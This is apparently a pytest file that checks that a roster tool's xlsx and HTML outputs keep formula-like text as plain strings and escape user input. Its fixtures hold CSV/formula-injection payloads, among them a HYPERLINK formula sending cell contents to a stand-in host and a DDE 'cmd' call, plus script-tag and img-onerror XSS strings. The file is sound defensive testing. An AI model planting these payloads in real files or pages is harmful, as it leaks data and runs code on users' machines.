"""Output safety: formula-like text stays text, and HTML escapes every user string.

Policy (see ``docs/security.md``):

- xlsx (roster workbooks and reports): text is written as a string cell (``t="s"`` or
  inline), never as a formula, so ``=HYPERLINK(...)`` shows as typed and runs nothing;
- roster CSV (:meth:`Roster.write`): an interchange format that must round-trip exact
  values, so cells are written as they are (no ``'`` prefix); the tool never writes a
  CSV *report* (reports are json, xlsx and html);
- HTML: every user string is escaped and the page carries no script at all.
"""

from __future__ import annotations

import os
import re
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cadre_core import Roster, read_roster

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.invalid/?q="&A1,"bấm vào")',
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=tab",
    "\r=cr",
]
SCRIPT = "<script>alert('xss')</script>"


@pytest.fixture(scope="module")
def hostile(sample: Roster) -> Roster:
    """The sample commune with formula-like and script names, titles and agency names."""
    cadres = sample.cadres.copy()
    for i, p in enumerate([*PAYLOADS, SCRIPT + " Lò Văn"]):
        cadres.loc[i, "full_name"] = f"{p} {i}" if p[0] not in "\t\r" else p
    positions = sample.positions.copy()
    positions.loc[0, "title"] = SCRIPT
    positions.loc[1, "title"] = PAYLOADS[1]
    agencies = sample.agencies.copy()
    agencies.loc[0, "name"] = '"><img src=x onerror=alert(1)>'
    return sample.with_tables(cadres=cadres, positions=positions, agencies=agencies)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(
            z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        )


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_roster_xlsx_keeps_formula_text_as_text(hostile: Roster, tmp_path: Path) -> None:
    """Roster.write(.xlsx): formula-like cells are strings, no <f> anywhere, round-trip."""
    path = hostile.write(tmp_path / "r.xlsx")
    assert "<f>" not in _sheet_xml(path) and "<f " not in _sheet_xml(path)
    wb = openpyxl.load_workbook(path)
    found = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if _formula_like(cell.value):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    found += 1
    assert found >= len(PAYLOADS)
    assert read_roster(path) == hostile


def test_roster_csv_round_trips_exact_values(hostile: Roster, tmp_path: Path) -> None:
    """Roster CSV keeps exact values (documented policy): reading back gives the same."""
    folder = hostile.write(tmp_path / "r")
    text = (folder / "cadres.csv").read_text(encoding="utf-8")
    assert "=1+1 0" in text  # not prefixed: the CSV is data for this tool, not a report
    back = read_roster(folder)
    assert back.cadres["full_name"].tolist()[:2] == hostile.cadres["full_name"].tolist()[:2]
    # whitespace-led payloads are normalised like every name (tab/CR collapse), not lost
    assert back == read_roster(hostile.write(tmp_path / "again"))


def _report(exe: Path, roster: Path, fmt: str, out: Path) -> None:
    env = {**os.environ, "NO_COLOR": "1"}
    done = subprocess.run(
        [str(exe), "evaluate", str(roster), "--as-of", "2026-12-31", "--format", fmt,
         "--output", str(out)],
        capture_output=True, text=True, env=env, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr


@pytest.fixture(scope="module")
def hostile_folder(hostile: Roster, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile roster as a folder of CSV."""
    return hostile.write(tmp_path_factory.mktemp("hostile") / "roster")


def test_xlsx_report_keeps_formula_text_as_text(
    cadre_exe: Path, hostile_folder: Path, tmp_path: Path
) -> None:
    """In the xlsx report, cells with user text are strings, never formulas."""
    out = tmp_path / "report.xlsx"
    _report(cadre_exe, hostile_folder, "xlsx", out)
    xml = _sheet_xml(out)
    for f in re.findall(r"<f>(.*?)</f>", xml, re.S):
        assert "HYPERLINK" not in f and "SUM(A1" not in f and "cmd" not in f
    wb = openpyxl.load_workbook(out)
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if isinstance(v, str) and any(p.strip()[:6] in v for p in PAYLOADS[:5]):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, v)
                    seen.append(v)
    assert any("HYPERLINK" in v for v in seen)  # the payloads did reach the report


def test_html_report_escapes_user_strings(
    cadre_exe: Path, hostile_folder: Path, tmp_path: Path
) -> None:
    """No script element, no injected tag or attribute; the text shows escaped."""
    out = tmp_path / "report.html"
    _report(cadre_exe, hostile_folder, "html", out)
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert not re.search(r"<img\b", page, re.I)
    assert not re.search(r"<[^>]*\bonerror\s*=", page, re.I)  # no injected attribute
    assert "&lt;script&gt;" in page  # the title and the name are shown, escaped
